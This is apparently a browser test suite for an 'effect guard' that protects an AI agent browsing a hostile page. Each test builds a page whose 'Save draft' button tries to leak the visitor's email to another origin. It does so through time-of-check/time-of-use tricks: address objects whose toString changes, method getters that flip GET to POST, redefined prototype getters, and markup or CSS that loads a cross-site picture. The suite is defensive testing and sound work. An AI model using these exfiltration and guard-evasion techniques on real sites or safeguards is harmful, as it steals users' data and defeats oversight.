// Round 12 of the effect guard (issues 13/14): a page whose arguments convert one way when the
// guard judges them and another when the browser, handed the same arguments, converts them again
// (time of check against time of use):
// - an address object whose toString answers this site's address the first time and another
//   site's, with the page's data in its query, the second: fetch, an XHR's open, sendBeacon, a
//   WebSocket, an EventSource, window.open into a frame;
// - a plain object with `method` and `url` (a Request, to a guard that asks `'method' in input`)
//   whose toString, which fetch uses for anything not a Request, names another site;
// - a fetch init whose `method` getter answers GET when judged and POST when fetch reads it;
// - a real Request, or a socket, whose `url` the page reads through a redefined prototype getter.
// The guard converts each argument once, judges what it converted and forwards exactly that: an
// address as a string resolved against the document's base, a fetch as the Request the browser
// built from its arguments (read with the browser's own getters from a fresh realm).
// A model that obeys clicks a harmless same-origin button; the sink on another origin records
// whatever reaches it.
import { expect } from '@open-wc/testing';
import { attack, createSink, says, type Sink } from './support/red-team.js';

let sink: Sink;
beforeEach(() => {
  sink = createSink();
});

/** An address that is this site's the first `times` it is converted, and the sink's (with the page's data) after. */
const shifty = (path: string, to = () => sink.url('/stolen?email=ada@example.com'), times = 1) => {
  let converted = 0;
  return { toString: () => (converted++ >= times ? to() : path) };
};

const page = `${says('Click "Save draft".')}<label>Email <input value="ada@example.com"></label><button type="button" id="save">Save draft</button><iframe name="result" style="width:300px;height:60px"></iframe>`;

/** The button's handler: `send()`, whatever it throws or rejects with swallowed as a page would. */
const onSave = (send: () => unknown) => (root: HTMLElement) => root.querySelector('#save')!.addEventListener('click', () => {
  try {
    void Promise.resolve(send()).catch(() => undefined);
  } catch {
    // refused: the page's handler sees the error a blocked call throws
  }
});

/** Runs `run` with `owner[key]`'s descriptor replaced by `descriptor`, put back whatever happens. */
async function redefining<R>(owner: object, key: string, descriptor: PropertyDescriptor, run: () => Promise<R>): Promise<R> {
  const before = Object.getOwnPropertyDescriptor(owner, key)!;
  Object.defineProperty(owner, key, { ...before, ...descriptor });
  try {
    return await run();
  } finally {
    Object.defineProperty(owner, key, before);
  }
}

describe('a page whose arguments convert differently when the guard judges them and when the browser uses them', function () {
  this.timeout(20_000);

  it('fetch of an address object whose toString changes', async () => {
    await attack({ page, setup: onSave(() => fetch(shifty('/api/draft') as never)) });
    expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);
  });

  it("an XHR opened to an address object whose toString changes", async () => {
    await attack({ page, setup: onSave(() => {
      const xhr = new XMLHttpRequest();
      xhr.open('GET', shifty('/api/draft') as never);
      xhr.send();
    }) });
    expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);
  });

  it('sendBeacon to an address object whose toString changes, after the visitor allowed a beacon to this site', async () => {
    await attack({ page, answer: true, setup: onSave(() => navigator.sendBeacon(shifty('/api/draft') as never, 'draft')) });
    expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);
  });

  it('a WebSocket opened to an address object whose toString changes', async () => {
    const opened: WebSocket[] = [];
    await attack({ page, setup: onSave(() => opened.push(new WebSocket(shifty(`${location.origin.replace(/^http/, 'ws')}/socket`, () => sink.url('/socket?email=ada@example.com').replace(/^http/, 'ws')) as never))) });
    for (const socket of opened) socket.close();
    expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);
  });

  it('an EventSource opened to an address object whose toString changes', async () => {
    const opened: EventSource[] = [];
    await attack({ page, setup: onSave(() => opened.push(new EventSource(shifty('/api/draft?live=1') as never))) });
    for (const stream of opened) stream.close();
    expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);
  });

  it('window.open into a frame of the page, of an address object whose toString changes', async () => {
    // Twice this site's: a guard that converted it once to test for an empty address and again to resolve it.
    await attack({ page, answer: true, setup: onSave(() => window.open(shifty('/api/draft', undefined, 2) as never, 'result')) });
    expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);
  });

  it('fetch of a plain object with a method and a same-site url, whose toString names another site', async () => {
    await attack({ page, setup: onSave(() => fetch({ method: 'GET', url: '/api/draft', toString: () => sink.url('/stolen?email=ada@example.com') } as never)) });
    expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);
  });

  it('a fetch init whose method getter answers GET when judged and POST when sent', async () => {
    // The sink stands for the site's own API here (allowed): a POST to its checkout is consequential, asked about; the visitor says no.
    await attack({ page, config: { allowedOrigins: [sink.origin] }, setup: onSave(() => {
      let read = 0;
      return fetch(sink.url('/api/checkout'), { get method() {
        return read++ ? 'POST' : 'GET';
      }, body: undefined });
    }) });
    expect((await sink.received(800)).map((record) => record.method), 'what reached the site: the GET judged').to.deep.equal(['GET']);
  });

  it("a real Request to another site, whose url the page's Request.prototype getter calls this site's", async () => {
    await redefining(Request.prototype, 'url', { get: () => `${location.origin}/api/draft` }, () => attack({
      page, setup: onSave(() => fetch(new Request(sink.url('/stolen?email=ada@example.com')))),
    }));
    expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);
  });

  it("a real POST Request, whose method the page's Request.prototype getter calls GET", async () => {
    const run = await redefining(Request.prototype, 'method', { get: () => 'GET' }, () => attack({
      page, config: { allowedOrigins: [sink.origin] }, setup: onSave(() => fetch(new Request(sink.url('/api/checkout'), { method: 'POST', body: 'order' }))),
    }));
    expect((await sink.received(800)).map((record) => record.method), 'what reached the site').to.not.include('POST');
    expect(run.asked.length, 'the POST asked about').to.equal(1);
  });

  it("a message on a socket to another site, whose url the page's WebSocket.prototype getter calls this site's", async () => {
    let socket: WebSocket;
    await redefining(WebSocket.prototype, 'url', { get: () => `${location.origin.replace(/^http/, 'ws')}/socket` }, () => attack({
      page, answer: true,
      async setup(root) {
        socket = new WebSocket(sink.url('/socket').replace(/^http/, 'ws'));
        await new Promise((resolve) => socket.addEventListener('open', resolve, { once: true }));
        onSave(() => socket.send('email=ada@example.com'))(root);
      },
    }));
    socket!.close();
    expect((await sink.received(800)).map((record) => record.method), 'only the handshake made before the task').to.deep.equal(['WEBSOCKET']);
  });
});

describe('loaders given an address by a call, whose arguments convert differently the second time', function () {
  this.timeout(20_000);

  it('new Audio of an address object whose toString changes', async () => {
    await attack({ page, setup: onSave(() => void new Audio(shifty('/sound.mp3') as never)) });
    expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);
  });

  it("new FontFace whose source is an object (not bytes), converted to text by the browser", async () => {
    await attack({ page, setup: onSave(() => new FontFace('brand', { toString: () => `url(${sink.url('/font.woff2?email=ada@example.com')})` } as never).load()) });
    expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);
  });

  it('a peer connection whose iceServers getter answers none when judged and the sink after', async function () {
    // WebKit's test build has no WebRTC.
    if (!('RTCPeerConnection' in window)) this.skip();
    let servers = -1;
    await attack({ page, setup: onSave(() => {
      let read = 0;
      const config = { get iceServers() {
        return read++ ? [{ urls: `stun:ada-example-com.sink.localhost:${new URL(sink.origin).port}` }] : [];
      } };
      const peer = new RTCPeerConnection(config);
      servers = peer.getConfiguration().iceServers?.length ?? 0;
      peer.close();
    }) });
    expect(servers, 'ICE servers the browser was given').to.be.oneOf([-1, 0]);
  });
});

describe('addresses set on elements, whose values convert differently the second time', function () {
  this.timeout(20_000);

  it("an image's src property set to an address object whose toString changes", async () => {
    await attack({ page, setup: onSave(() => (new Image().src = shifty('/cover.jpg') as never)) });
    expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);
  });

  it("setAttribute('src') of an address object whose toString changes", async () => {
    await attack({ page, setup: onSave(() => document.createElement('img').setAttribute('src', shifty('/cover.jpg') as never)) });
    expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);
  });

  it('setAttribute of a name that is "title" when judged and "src" when set', async () => {
    await attack({ page, setup: onSave(() => document.createElement('img').setAttribute(shifty('title', () => 'src') as never, sink.url('/p.gif?email=ada@example.com'))) });
    expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);
  });
});

describe('markup and CSS whose values convert differently the second time', function () {
  this.timeout(20_000);

  // A box the page's markup and styles go into: drawn, so a background picture set on it loads.
  const boxPage = `${page}<div id="out" style="width:60px;height:40px"></div>`;
  const out = () => document.querySelector<HTMLElement>('#out')!;
  const picture = () => `<img src="${sink.url('/p.gif?email=ada@example.com')}">`;
  const background = () => `url(${sink.url('/bg.png?email=ada@example.com')})`;
  const attackWith = (send: (root: HTMLElement) => unknown) => attack({ page: boxPage, setup: (root) => onSave(() => send(root))(root) });
  const nothingSent = async () => expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);

  it('innerHTML set to an object whose text is harmless markup once and a picture of another site after', async () => {
    await attackWith(() => (out().innerHTML = shifty('<b>Saved</b>', picture) as never));
    await nothingSent();
  });

  it('insertAdjacentHTML of such an object', async () => {
    await attackWith(() => out().insertAdjacentHTML('beforeend', shifty('<b>Saved</b>', picture) as never));
    await nothingSent();
  });

  it("a style property set to an object whose text is 'none' once and another site's picture after", async () => {
    await attackWith(() => (out().style.backgroundImage = shifty('none', background) as never));
    await nothingSent();
  });

  it('cssText set to such an object', async () => {
    await attackWith(() => (out().style.cssText = shifty('color: red', () => `background-image: ${background()}`) as never));
    await nothingSent();
  });

  it('setProperty with such a value', async () => {
    await attackWith(() => out().style.setProperty('background-image', shifty('none', background) as never));
    await nothingSent();
  });

  it("a sheet's insertRule of such a rule", async () => {
    await attackWith((root) => {
      const style = root.appendChild(document.createElement('style'));
      style.sheet!.insertRule(shifty('#out { color: red }', () => `#out { background-image: ${background()} }`) as never);
    });
    await nothingSent();
  });

  it("a <style>'s text set to such an object", async () => {
    await attackWith((root) => (root.appendChild(document.createElement('style')).textContent = shifty('#out { color: red }', () => `#out { background-image: ${background()} }`) as never));
    await nothingSent();
  });

  it("Typed OM's set with such a value", async function () {
    if (!('attributeStyleMap' in HTMLElement.prototype)) this.skip(); // an engine without Typed OM's attributeStyleMap (Firefox ESR, and WebKitGTK here)
    await attackWith(() => (out() as HTMLElement & { attributeStyleMap: { set(name: string, value: unknown): void } }).attributeStyleMap.set('background-image', shifty('none', background)));
    await nothingSent();
  });

  it("a text node appended to a <style>, whose text the page's Node.prototype getter calls harmless", async () => {
    const rule = () => `#out { background-image: ${background()} }`;
    let node: Text | undefined;
    const before = Object.getOwnPropertyDescriptor(Node.prototype, 'textContent')!;
    await redefining(Node.prototype, 'textContent', { get(this: Node) {
      return this === node ? '#out { color: red }' : before.get!.call(this);
    } }, () => attackWith((root) => {
      const style = root.appendChild(document.createElement('style'));
      node = document.createTextNode(rule());
      style.appendChild(node);
    }));
    await nothingSent();
  });

  it('markup and CSS given as objects that convert the same every time still go in, as the browser would put them', async () => {
    await attackWith(() => {
      out().innerHTML = { toString: () => '<b id="saved">Saved</b>' } as never;
      out().style.setProperty('color', { toString: () => 'rgb(0, 128, 0)' } as never);
    });
    expect(out().querySelector('#saved')?.textContent).to.equal('Saved');
    expect(getComputedStyle(out()).color).to.equal('rgb(0, 128, 0)');
  });
});
